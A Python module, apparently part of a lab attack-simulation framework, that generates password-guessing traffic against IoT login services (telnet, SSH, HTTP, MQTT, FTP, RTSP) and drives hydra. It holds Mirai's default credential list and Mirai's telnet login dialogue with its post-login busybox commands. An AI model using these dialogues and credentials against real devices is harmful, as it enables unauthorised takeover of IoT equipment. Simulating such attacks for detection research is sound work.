"""Guessing passwords at login services: telnet, SSH, HTTP, MQTT, FTP, RTSP, by hydra and by sockets.

In: a target inside the lab that asks for a password. Out: the same short dialogue over and over.
Must never: try more than ``tries`` passwords, or do anything once a password was accepted but show that it was.
Source: the credentials and the telnet dialogue follow Mirai's published scanner; RFC 854, 7617, 959, 2326, MQTT 3.1.1.
"""

from __future__ import annotations

from collections.abc import Callable, Coroutine, Iterator, Sequence
from dataclasses import dataclass
from itertools import cycle, islice
from typing import Any, Final, Literal, TypeAlias

from pydantic import Field

from thingwarden.domain.taxonomy import AttackClass
from thingwarden.lab.behaviour.act import ActKind, ActSettings
from thingwarden.lab.behaviour.attacks import breadth
from thingwarden.lab.behaviour.attacks.pacing import LONGEST_PROGRAM_S, Crowd, Rhythm
from thingwarden.lab.behaviour.protocol.buffered import Buffered
from thingwarden.lab.behaviour.protocol.credential import FACTORY_LOGIN, basic_authorization
from thingwarden.lab.behaviour.protocol.http import read_answer
from thingwarden.lab.behaviour.reach import Ending, leave
from thingwarden.lab.timeline import Aim
from thingwarden.lab.tool import LoginGuess
from thingwarden.lab.world import World

Credential: TypeAlias = tuple[str, str]

FACTORY_PASSWORDS: Final[tuple[Credential, ...]] = (
    ("root", "xc3511"), ("root", "vizxv"), ("root", "admin"), ("admin", "admin"), ("root", "888888"),
    ("root", "xmhdipc"), ("root", "default"), ("root", "juantech"), ("root", "123456"), ("root", "54321"),
    ("support", "support"), ("root", ""), ("admin", "password"), ("root", "root"), ("root", "12345"), ("user", "user"),
    ("admin", ""), ("root", "pass"), ("admin", "admin1234"), ("root", "1111"), ("admin", "smcadmin"),
    ("admin", "1111"), ("root", "666666"), ("root", "password"), ("root", "1234"), ("root", "klv123"),
    ("Administrator", "admin"), ("service", "service"), ("supervisor", "supervisor"), ("guest", "guest"),
    ("guest", "12345"), ("admin1", "password"), ("administrator", "1234"), ("666666", "666666"), ("888888", "888888"),
    ("ubnt", "ubnt"), ("root", "klv1234"), ("root", "Zte521"), ("root", "hi3518"), ("root", "jvbzd"),
    ("root", "anko"), ("root", "zlxx."), ("root", "7ujMko0vizxv"), ("root", "7ujMko0admin"), ("root", "system"),
    ("root", "ikwb"), ("root", "dreambox"), ("root", "user"), ("root", "realtek"), ("root", "00000000"),
    ("admin", "1111111"), ("admin", "1234"), ("admin", "12345"), ("admin", "54321"), ("admin", "123456"),
    ("admin", "7ujMko0admin"), ("admin", "pass"), ("admin", "meinsm"), ("tech", "tech"),
)  # fmt: skip
"""Mirai's published list; the first is the one that the lab's cameras accept."""

_TCP: Final = 6
NEGOTIATION: Final = b"\xff\xfc\x01\xff\xfc\x1f\xff\xfe\x01\xff\xfe\x03"


class GuessSettings(ActSettings):
    """Passwords at one login service of each target in turn.

    Attributes:
        port: of the service.
        tries: passwords at most, per target.
        per_connection: after so many a new connection is opened.
        parallel: connections at a time.
        pause_s: between two connections of one worker, drawn around.
        think_s: before each answer to a prompt.
        patience_s: waited for a connection or a prompt.
        finds: whether the last password tried is the accepted one.
        user, password: the accepted one.
        ending: how connections are left.
    """

    port: int = breadth.known_port(23, 2323)
    tries: int = breadth.number(40, 4, 300)
    per_connection: int = breadth.number(3, 1, 6)
    parallel: int = breadth.number(1, 1, 8)
    pause_s: float = breadth.number(0.4, 0.02, 20.0)
    think_s: float = breadth.number(0.06, 0.005, 2.0)
    patience_s: float = breadth.number(5.0, 1.0, 15.0)
    finds: bool = breadth.flag(False, likely=0.3)
    user: str = FACTORY_LOGIN[0]
    password: str = FACTORY_LOGIN[1]
    ending: Ending = "close"


class SshSettings(GuessSettings):
    """As ``GuessSettings``, for the port of SSH."""

    port: int = breadth.known_port(22, 2222)


class WebSettings(GuessSettings):
    """As ``GuessSettings``, for a web page.

    Attributes:
        path: asked for.
        agent: says that it is.
    """

    port: int = breadth.known_port(80, 81, 8080)
    per_connection: int = breadth.number(1, 1, 40)
    path: Literal["/", "/cgi-bin/login.cgi", "/admin/", "/HNAP1/", "/setup.cgi", "/cgi-bin/snapshot.cgi"] = "/"
    agent: Literal["Mozilla/4.0 (Hydra)", "python-requests/2.28.1", "curl/7.68.0", "Go-http-client/1.1"] = (
        "Mozilla/4.0 (Hydra)"
    )


class BrokerSettings(GuessSettings):
    """As ``GuessSettings``, for an MQTT broker."""

    port: int = breadth.known_port(1883)
    per_connection: int = Field(default=1, ge=1, le=1)


class FtpSettings(GuessSettings):
    """As ``GuessSettings``, for FTP."""

    port: int = breadth.known_port(21)


class RtspSettings(GuessSettings):
    """As ``GuessSettings``, for a camera's stream."""

    port: int = breadth.known_port(554, 8554)
    per_connection: int = breadth.number(4, 1, 40)


class ToolGuessSettings(ActSettings):
    """hydra at one service of each target in turn.

    Attributes:
        service, port, tries, parallel: see ``LoginGuess``.
    """

    service: Literal["telnet", "ssh", "http", "ftp"] = "telnet"
    port: int = Field(default=23, ge=1, le=65535)
    tries: int = breadth.number(40, 4, 300)
    parallel: int = breadth.number(4, 1, 16)


Dialogue: TypeAlias = Callable[[World, Buffered, Sequence[Credential], Any], Coroutine[Any, Any, bool]]
"""Tries some passwords over one open connection; true where one was accepted. Raises OSError."""


@dataclass(frozen=True, slots=True, kw_only=True)
class _Siege:
    """One target and the passwords that are left for it; its workers share them."""

    target: str
    settings: GuessSettings
    dialogue: Dialogue
    left: Iterator[Sequence[Credential]]
    lasts_s: float

    async def work(self, world: World) -> None:
        rhythm = Rhythm(world, self.settings.pause_s, lasts_s=self.lasts_s, count=self.settings.tries, jitter=0.4)
        for batch in self.left:
            if not await rhythm.beat() or await self._try(world, batch):
                return

    async def _try(self, world: World, batch: Sequence[Credential]) -> bool:
        try:
            stream = await world.connect(self.target, self.settings.port, timeout_s=self.settings.patience_s)
        except OSError:
            return False
        try:
            found = await self.dialogue(world, Buffered(stream), batch, self.settings)
        except OSError:
            # A server that ends the connection after its last refusal is no reason to be rude.
            await stream.close()
            return False
        await leave(world, stream, self.settings.ending)
        return found


async def _guess(world: World, settings: GuessSettings, dialogue: Dialogue) -> None:
    lasts_s = settings.lasts_s / max(1, len(settings.targets))
    for target in settings.targets:
        siege = _Siege(
            target=target, settings=settings, dialogue=dialogue, left=_batches(settings), lasts_s=lasts_s
        )  # fmt: skip
        crowd = Crowd(world)
        for _ in range(settings.parallel):
            crowd.start(siege.work)
        await crowd.wait(lasts_s)


def _batches(settings: GuessSettings) -> Iterator[Sequence[Credential]]:
    accepted = (settings.user, settings.password)
    wrong = [pair for pair in FACTORY_PASSWORDS if pair != accepted]
    pairs = list(islice(cycle(wrong), settings.tries))
    if settings.finds:
        pairs[-1] = accepted
    return iter([pairs[at : at + settings.per_connection] for at in range(0, len(pairs), settings.per_connection)])


async def try_telnet(world: World, source: Buffered, batch: Sequence[Credential], settings: GuessSettings) -> bool:
    """Answer a telnet login's prompts; once in, show it as Mirai does and leave.

    Raises:
        OSError: the device broke off, or shows no prompt in time.
    """
    patience_s = settings.patience_s
    await source.until(b"login: ", timeout_s=patience_s)
    await source.stream.send(NEGOTIATION)
    for user, password in batch:
        await world.sleep(settings.think_s * world.rng.uniform(0.5, 1.5))
        await source.stream.send(user.encode() + b"\r\n")
        await source.until(b"assword: ", timeout_s=patience_s)
        await world.sleep(settings.think_s * world.rng.uniform(0.5, 1.5))
        await source.stream.send(password.encode() + b"\r\n")
        if await read_verdict(source, patience_s):
            for command in (b"enable", b"shell", b"sh", b"/bin/busybox ECCHI", b"exit"):
                await source.stream.send(command + b"\r\n")
                await world.sleep(settings.think_s)
            return True
    return False


async def read_verdict(source: Buffered, patience_s: float) -> bool:
    """Read on until a telnet login either gives a shell (true) or asks again (false).

    Raises:
        OSError: neither came in time.
    """
    while True:
        seen = await source.peek(patience_s)
        if b"# " in seen or b"$ " in seen:
            await source.exactly(len(seen))
            return True
        if b"login: " in seen:
            await source.until(b"login: ")
            return False
        await source.exactly(len(seen))


async def try_ssh(world: World, source: Buffered, batch: Sequence[Credential], settings: GuessSettings) -> bool:
    """Messages of the sizes of an SSH login: versions, key exchange, then a fixed-size answer per password.

    Raises:
        OSError: the device broke off.
    """
    patience_s = settings.patience_s
    await source.stream.send(b"SSH-2.0-Go\r\n")
    await source.until(b"\n", timeout_s=patience_s)
    for count in (1016, 48, 64, *(148 for _ in batch)):
        await source.stream.send(world.rng.randbytes(count))
        await drain(source, patience_s)
        await world.sleep(settings.think_s)
    return False


async def try_web(world: World, source: Buffered, batch: Sequence[Credential], settings: WebSettings) -> bool:
    """Basic authentication, one request per password over one connection.

    Raises:
        OSError: the device broke off.
    """
    for number, (user, password) in enumerate(batch, start=1):
        login = basic_authorization(user, password).decode()
        kept = "keep-alive" if number < len(batch) else "close"
        head = (
            f"GET {settings.path} HTTP/1.1\r\nHost: {source.stream.peer[0]}\r\n{login}\r\n"
            f"User-Agent: {settings.agent}\r\nConnection: {kept}\r\n\r\n"
        )
        await source.stream.send(head.encode())
        answer = await read_answer(source, settings.patience_s)
        if b" 200 " in answer[:16] and _opens(settings, user, password):
            return True
        await world.sleep(settings.think_s)
    return False


async def try_broker(world: World, source: Buffered, batch: Sequence[Credential], settings: GuessSettings) -> bool:
    """MQTT's CONNECT with a password, and the broker's answer.

    Raises:
        OSError: the broker broke off.
    """
    for user, password in batch:
        name = f"{world.rng.getrandbits(32):08x}"
        await source.stream.send(mqtt_connect(name, user, password))
        answer = await source.exactly(4, settings.patience_s)
        if answer[3] == 0 and _opens(settings, user, password):
            return True
    return False


def mqtt_connect(name: str, user: str = "", password: str = "", keep_alive_s: int = 60) -> bytes:
    """CONNECT of MQTT 3.1.1 with a clean session; with a password where there is a user.

    Args:
        name: client identifier, at most 65 characters.
        user, password: at most 20 characters each.
        keep_alive_s: 0 to 65535.
    """
    texts = (name, user, password) if user else (name,)
    body = b"\x00\x04MQTT\x04" + bytes((0xC2 if user else 0x02,)) + keep_alive_s.to_bytes(2, "big")
    body += b"".join(len(text).to_bytes(2, "big") + text.encode() for text in texts)
    return bytes((0x10, len(body))) + body


async def try_ftp(world: World, source: Buffered, batch: Sequence[Credential], settings: GuessSettings) -> bool:
    """USER and PASS until the server says 230.

    Raises:
        OSError: the server broke off.
    """
    await source.until(b"\n", timeout_s=settings.patience_s)
    for user, password in batch:
        for line in (f"USER {user}", f"PASS {password}"):
            await world.sleep(settings.think_s)
            await source.stream.send(line.encode() + b"\r\n")
            answer = await source.until(b"\n", timeout_s=settings.patience_s)
        if answer.startswith(b"230") and _opens(settings, user, password):
            return True
    return False


async def try_rtsp(world: World, source: Buffered, batch: Sequence[Credential], settings: GuessSettings) -> bool:
    """DESCRIBE with basic authentication.

    Raises:
        OSError: the camera broke off.
    """
    address, port = source.stream.peer
    for number, (user, password) in enumerate(batch, start=1):
        login = basic_authorization(user, password).decode()
        head = f"DESCRIBE rtsp://{address}:{port}/live RTSP/1.0\r\nCSeq: {number}\r\n{login}\r\n\r\n"
        await source.stream.send(head.encode())
        answer = await read_answer(source, settings.patience_s)
        if b" 200 " in answer[:16] and _opens(settings, user, password):
            return True
        await world.sleep(settings.think_s)
    return False


def _opens(settings: GuessSettings, user: str, password: str) -> bool:
    # A door that opens to everybody is no find, and is asked on.
    return settings.finds and (user, password) == (settings.user, settings.password)


async def drain(source: Buffered, patience_s: float) -> None:
    """Read what has come, whatever it is.

    Raises:
        OSError: nothing came in time, or the other side left.
    """
    await source.exactly(len(await source.peek(patience_s)))


async def guess_by_tool(world: World, settings: ToolGuessSettings) -> None:
    """hydra at each target."""
    for target in settings.targets:
        await world.use(
            LoginGuess(
                target=target,
                service=settings.service,
                port=settings.port,
                tries=settings.tries,
                parallel=settings.parallel,
                lasts_s=min(LONGEST_PROGRAM_S, settings.lasts_s / len(settings.targets)),
            )
        )


def _aims(settings: GuessSettings | ToolGuessSettings) -> tuple[Aim, ...]:
    return tuple(Aim(peer=target, proto=_TCP, ports=(settings.port,)) for target in settings.targets)


async def guess_telnet(world: World, settings: GuessSettings) -> None:
    """Mirai's dialogue, password after password."""
    await _guess(world, settings, try_telnet)


def _kind(about: str, settings: type[GuessSettings], dialogue: Dialogue) -> ActKind[Any]:
    async def run(world: World, chosen: GuessSettings) -> None:
        await _guess(world, chosen, dialogue)

    return ActKind(
        about=about,
        settings=settings,
        run=run,
        aims=_aims,
        attack_class=AttackClass.BRUTE_FORCE,
        technique="T1110.001",
    )


GUESSES: Final[dict[str, ActKind[Any]]] = {
    "guess_telnet": _kind("Mirai's dialogue with a telnet login.", GuessSettings, try_telnet),
    "guess_ssh": _kind("Passwords at SSH.", SshSettings, try_ssh),
    "guess_http": _kind("Basic authentication at a web page.", WebSettings, try_web),
    "guess_mqtt": _kind("Passwords at an MQTT broker.", BrokerSettings, try_broker),
    "guess_ftp": _kind("Passwords at FTP.", FtpSettings, try_ftp),
    "guess_rtsp": _kind("Passwords at a camera's stream.", RtspSettings, try_rtsp),
    "guess_by_tool": ActKind(
        about="Passwords at telnet, SSH, HTTP or FTP, by hydra.",
        settings=ToolGuessSettings,
        run=guess_by_tool,
        aims=_aims,
        attack_class=AttackClass.BRUTE_FORCE,
        technique="T1110.001",
    ),
}
